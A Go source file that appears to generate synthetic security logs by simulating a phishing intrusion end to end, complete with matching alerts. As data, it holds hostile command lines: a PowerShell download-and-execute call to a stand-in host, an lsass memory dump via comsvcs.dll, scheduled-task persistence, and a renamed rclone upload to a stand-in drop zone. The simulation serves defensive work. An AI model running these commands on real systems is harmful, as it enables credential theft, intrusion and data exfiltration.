package world

import "fmt"

// The intruder's hosts.
var (
	lureSite  = site{"northwind-billing.example", "203.0.113.77"}
	commandIn = site{"cdn-telemetry.example", "198.51.100.223"}
	dropZone  = site{"eu2.cloud-dropzone.example", "203.0.113.140"}
)

// cast holds the people and devices that the intrusion affects.
type cast struct {
	victim, admin            *account
	workplace, files, domain *device
}

// newStory plants the intrusion: a phishing mail to Finance, a macro, PowerShell that compiles its
// loader in AppData, a memory dump of lsass, a stolen administrator account, the file server and
// the domain controller, and at night the exfiltration of an archive.
func (w *World) newStory() *story {
	e := w.estate()
	s := &scene{story: &story{}, d: w.dice("story"), day: w.dayOfStory()}
	c := e.cast()
	lure := s.phish(e, c)
	loader := s.open(c, lure)
	implant := s.persist(c, loader)
	s.discover(c, implant)
	s.readMail(c)
	s.steal(c, implant)
	s.spread(c, implant)
	s.leave(c)
	w.chores(s.story, c)
	return s.story
}

// cast picks the first Windows workstation in Finance and the first administrator.
func (e *estate) cast() cast {
	c := cast{admin: e.admins[0], files: e.byName["srv-file-01"], domain: e.byName["srv-dc-01"]}
	for _, p := range e.people {
		if x := e.workplaceOf(p); p.department == "Finance" && x.system == windows {
			c.victim, c.workplace = p, x
			break
		}
	}
	return c
}

const lureName = "Invoice_48213.xlsm"

// phish sends the same mail to all of Finance. Only the copy for the victim is delivered to the
// inbox.
func (s *scene) phish(e *estate, c cast) *mail {
	var delivered *mail
	for _, p := range e.people {
		if p.department != "Finance" {
			continue
		}
		m := mail{
			at: s.at(7, 41, 12) + s.d.Int64N(3*second), id: s.d.guid(),
			internetID: "<" + s.d.hex(24) + "@" + lureSite.name + ">",
			from:       "accounts@" + lureSite.name, fromName: "Northwind Billing", fromDomain: lureSite.name,
			fromIP: lureSite.ip,
			to:     p, toAddress: p.upn, subject: "Overdue invoice 48213 - final reminder", direction: "Inbound",
			delivery: "Junked", location: "Junk folder", threats: "Phish", cluster: 3_204_118_877, report: s.d.guid(),
			links: []string{"https://" + lureSite.name + "/pay?inv=48213"},
			attachments: []attachment{{name: lureName, kind: "xlsm", size: 48_640,
				sha256: digest("sha256:"+lureName, 64), threats: "Phish"}},
		}
		if p == c.victim {
			m.delivery, m.location, m.threats, m.attachments[0].threats = "Delivered", "Inbox/folder", "", ""
		}
		s.mails = append(s.mails, m)
		if p == c.victim {
			delivered = &s.mails[len(s.mails)-1]
		}
	}
	copied := *delivered
	s.lure, s.removed = &copied, s.at(12, 6, 3)
	removed := s.raiseAlert(s.removed+20*second, "Email messages containing malicious file removed after delivery",
		"InitialAccess", "Informational",
		[]string{"Spearphishing Attachment (T1566.001)"},
		evidence{kind: "MailMessage", role: "Related", user: c.victim, mail: &copied})
	removed.service, removed.detection = "Microsoft Defender for Office 365", "Microsoft Defender for Office 365"
	return &copied
}

// open opens the attachment. Its macro starts PowerShell, which compiles the loader three times.
func (s *scene) open(c cast, lure *mail) *process {
	x := c.workplace
	outlook := x.residents["OUTLOOK.EXE"]
	cache := x.home(c.victim) + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\` + s.d.hex(8)
	s.write(s.at(8, 47, 31), outlook, cache, lure.attachments[0].name,
		lure.attachments[0].size).sha256 = lure.attachments[0].sha256
	excel := s.run(s.at(8, 47, 33), outlook, "EXCEL.EXE", `"`+images["EXCEL.EXE"].path("")+`" "`+cache+`\`+lureName+`"`)
	s.load(s.at(8, 47, 41), excel, "VBE7.DLL")
	shell := s.run(s.at(8, 48, 2), excel, "powershell.exe", "powershell.exe -NoP -W Hidden -Enc "+
		encoded("IEX (New-Object Net.WebClient).DownloadString('https://"+commandIn.name+"/a/loader.ps1')"))
	s.connect(s.at(8, 48, 5), shell, commandIn, 443)
	temp := x.home(c.victim) + `\AppData\Local\Temp\`
	for i := range int64(3) {
		name := s.d.hex(8)
		at := s.at(8, 48, 9+4*i)
		compiler := s.run(at, shell, "csc.exe", `"`+images["csc.exe"].path("")+`" /noconfig /fullpaths @"`+temp+name+
			`\`+name+`.cmdline"`)
		s.run(at+second, compiler, "cvtres.exe", `cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:`+temp+`RES`+
			s.d.hex(4)+`.tmp" "`+temp+name+`\CSC`+s.d.hex(8)+`.TMP"`)
		s.write(at+second+s.d.Int64N(second), compiler, temp+name, name+".dll", 7_680)
	}
	s.raiseAlert(s.at(8, 52, 40), "Office application started PowerShell with an encoded command", "Execution",
		"Medium",
		[]string{"PowerShell (T1059.001)", "Malicious File (T1204.002)"},
		evidence{kind: "Machine", role: "Impacted", device: x},
		evidence{kind: "User", role: "Impacted", device: x, user: c.victim},
		evidence{kind: "Process", role: "Related", device: x, user: c.victim, process: shell})
	return shell
}

// persist drops the implant, persists it with a task and a Run key, and lets it beacon for the rest
// of the day.
func (s *scene) persist(c cast, loader *process) *process {
	x := c.workplace
	folder := images["syncsvc.exe"].path(x.home(c.victim))
	s.write(s.at(8, 49, 20), loader, x.home(c.victim)+`\AppData\Roaming\ContosoSync`, "syncsvc.exe",
		images["syncsvc.exe"].size)
	s.run(s.at(8, 49, 26), loader, "schtasks.exe",
		`schtasks.exe /create /tn "ContosoSync" /sc onlogon /tr "`+folder+`" /f`)
	s.registry = append(s.registry, registryEvent{
		event: event{at: s.at(8, 49, 28), device: x, action: "RegistryValueSet"}, process: loader,
		key: `HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run`, name: "ContosoSync", kind: "String",
		data: `"` + folder + `" --quiet`,
	})
	implant := s.run(s.at(8, 49, 31), loader, "syncsvc.exe", `"`+folder+`" --quiet`)
	for at := s.at(8, 50, 0); at < s.at(17, 40, 0); at += 3*minute + s.d.Int64N(20*second) {
		s.connect(at, implant, commandIn, 443)
	}
	return implant
}

// discover runs the usual discovery commands.
func (s *scene) discover(c cast, implant *process) {
	shell := s.run(s.at(9, 31, 5), implant, "cmd.exe",
		`cmd.exe /q /c whoami /all & net group "Domain Admins" /domain & nltest /dclist:`)
	s.run(s.at(9, 31, 6), shell, "whoami.exe", "whoami /all")
	net := s.run(s.at(9, 31, 9), shell, "net.exe", `net group "Domain Admins" /domain`)
	s.run(s.at(9, 31, 9)+second, net, "net1.exe", `C:\WINDOWS\system32\net1 group "Domain Admins" /domain`)
	s.run(s.at(9, 31, 14), shell, "nltest.exe", "nltest /dclist:"+domain)
	s.directoryQueries = append(s.directoryQueries, directoryEvent{
		event: event{at: s.at(9, 31, 10), device: c.workplace, action: "SAMR query"}, application: activeDirectory,
		kind:     "EnumerateMembersInGroup",
		protocol: "Samr", queryTarget: "Domain Admins", user: c.victim, server: c.domain, port: 445, sourcePort: 50211,
		from: countryOf(c.victim), id: s.d.guid(),
	})
}

// readMail uses the victim's session from outside and adds an inbox rule that hides warnings.
func (s *scene) readMail(c cast) {
	s.signIns = append(s.signIns, signIn{
		event: event{at: s.at(11, 43, 50), action: "SignIn"}, user: c.victim, application: applications[1],
		kind: "interactiveUser",
		from: away, ip: commandIn.ip, risk: 50, session: s.d.guid(), request: s.d.guid(),
	})
	rule := activityKinds[6] // New-InboxRule
	s.activities = append(s.activities, activity{
		event: event{at: s.at(11, 47, 2), device: c.workplace, action: rule.action}, kind: rule, user: c.victim,
		home: away, ip: commandIn.ip,
		object: "Move anything about Northwind or invoice 48213 to RSS Feeds", id: s.d.guid(), outsider: true,
	})
}

// away is where the intruder signs in from.
var away = place{"NL", "Netherlands", "Zwolle", "Cheap Racks"}

// steal dumps the memory of lsass, which holds the credentials of an administrator's session.
func (s *scene) steal(c cast, implant *process) {
	x := c.workplace
	s.logOn(s.at(9, 58, 12), nil, x, c.admin, "Interactive", "Negotiate")
	dumper := s.run(s.at(10, 12, 44), implant, "rundll32.exe", fmt.Sprintf(
		`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d C:\Users\Public\settings.dmp full`,
		x.residents["lsass.exe"].pid))
	s.load(s.at(10, 12, 44), dumper, "comsvcs.dll")
	s.load(s.at(10, 12, 45), dumper, "dbgcore.dll")
	s.openProcess(s.at(10, 12, 45), dumper, x.residents["lsass.exe"], 0x1fffff)
	dump := *s.write(s.at(10, 12, 47), dumper, `C:\Users\Public`, "settings.dmp", 61_431_908)
	s.raiseAlert(s.at(10, 16, 2), "Sensitive credential memory read", "CredentialAccess", "High",
		[]string{"LSASS Memory (T1003.001)"},
		evidence{kind: "Machine", role: "Impacted", device: x},
		evidence{kind: "Process", role: "Related", device: x, user: c.victim, process: dumper},
		evidence{kind: "File", role: "Related", device: x, file: &dump})
}

// spread moves to the file server with PsExec and to the domain controller with WMI.
func (s *scene) spread(c cast, implant *process) {
	x := c.workplace
	s.reach(s.at(11, 4, 18), implant, c.files, 445)
	s.logOn(s.at(11, 4, 19), x, c.files, c.admin, "Network", "NTLM")
	s.write(s.at(11, 4, 21), c.files.residents["System"], `C:\Windows`, "PSEXESVC.exe", images["PSEXESVC.exe"].size)
	service := s.run(s.at(11, 4, 22), c.files.residents["services.exe"], "PSEXESVC.exe", `C:\Windows\PSEXESVC.exe`)
	service.remote = x
	shell := s.run(s.at(11, 4, 25), service, "cmd.exe", `"cmd.exe" /c hostname & dir D:\Shares\Finance`)

	s.reach(s.at(11, 21, 40), implant, c.domain, 135)
	s.logOn(s.at(11, 21, 41), x, c.domain, c.admin, "Network", "NTLM")
	collector := s.run(s.at(11, 21, 43), c.domain.residents["WmiPrvSE.exe"], "powershell.exe",
		"powershell.exe -NoP -NonI -W Hidden -Enc "+
			encoded("Get-ADUser -Filter * -Properties * | Export-Csv C:\\ProgramData\\u.csv"))
	s.changeDirectory(s.at(11, 4, 22), c, "Service creation", c.files,
		`{"ServiceName":"PSEXESVC","ServiceCommand":"%SystemRoot%\\PSEXESVC.exe"}`)
	s.changeDirectory(s.at(11, 21, 42), c, "PowerShell execution", c.domain, `{"Command":"Get-ADUser"}`)
	collector.user = c.admin // WMI runs commands as the caller
	s.raiseAlert(s.at(11, 9, 30), "PsExec started a process on a remote device", "LateralMovement", "Medium",
		[]string{"SMB/Windows Admin Shares (T1021.002)", "Service Execution (T1569.002)"},
		evidence{kind: "Machine", role: "Impacted", device: c.files},
		evidence{kind: "Machine", role: "Related", device: x},
		evidence{kind: "User", role: "Related", device: c.files, user: c.admin},
		evidence{kind: "Process", role: "Related", device: c.files, user: systemAccount, process: shell})
}

// changeDirectory adds what Defender for Identity sees of it.
func (s *scene) changeDirectory(at int64, c cast, action string, on *device, fields string) {
	s.directoryChanges = append(s.directoryChanges, directoryEvent{
		event: event{at: at, device: c.workplace, action: action}, application: activeDirectory, user: c.admin,
		server: on,
		from:   countryOf(c.admin), fields: fields, id: s.d.guid(), sourcePort: 50377, port: 135,
	})
	s.identityLogons = append(s.identityLogons, directoryEvent{
		event: event{at: at - 2*second, device: c.workplace, action: "LogonSuccess"}, application: activeDirectory,
		kind:     "Credentials validation",
		protocol: "Ntlm", user: c.admin, server: on, port: 445, from: countryOf(c.admin), id: s.d.guid(),
		sourcePort: 50376,
	})
}

// leave archives the finance share at night and uploads it with a renamed rclone.
func (s *scene) leave(c cast) {
	x := c.files
	s.logOn(s.at(22, 3, 7), c.workplace, x, c.admin, "RemoteInteractive", "Kerberos")
	desktop := *x.residents["explorer.exe"]
	desktop.user, desktop.remote, desktop.created = c.admin, c.workplace, s.at(22, 3, 9)
	shell := s.run(s.at(22, 5, 40), &desktop, "cmd.exe", `"C:\Windows\system32\cmd.exe"`)
	const folder = `C:\ProgramData\Intel`
	packer := s.run(s.at(22, 7, 2), shell, "7z.exe",
		`7z.exe a -mx1 -v500m -pW1nter!sComing `+folder+`\cache.7z D:\Shares\Finance`)
	for i := range 6 {
		s.write(s.at(22, 8+int64(i), 30), packer, folder, "cache.7z.00"+string(rune('1'+i)), 524_288_000)
	}
	copier := s.run(s.at(22, 16, 11), shell, "iusb3mon.exe",
		folder+`\iusb3mon.exe copy `+folder+
			` dz:in --include "cache.7z.*" --transfers 6 --no-check-certificate --config `+folder+`\i.cfg`)
	for at := s.at(22, 16, 14); at < s.at(22, 58, 0); at += 8*second + s.d.Int64N(20*second) {
		s.connect(at, copier, dropZone, 443)
	}
	s.raiseAlert(s.at(23, 10, 15), "Possible data exfiltration with a renamed copy tool", "Exfiltration", "High",
		[]string{"Exfiltration to Cloud Storage (T1567.002)", "Masquerading (T1036)"},
		evidence{kind: "Machine", role: "Impacted", device: x},
		evidence{kind: "User", role: "Impacted", device: x, user: c.admin},
		evidence{kind: "Process", role: "Related", device: x, user: c.admin, process: copier},
		evidence{kind: "Ip", role: "Related", remoteIP: dropZone.ip, device: x},
		evidence{kind: "Url", role: "Related", remoteURL: dropZone.name})
}
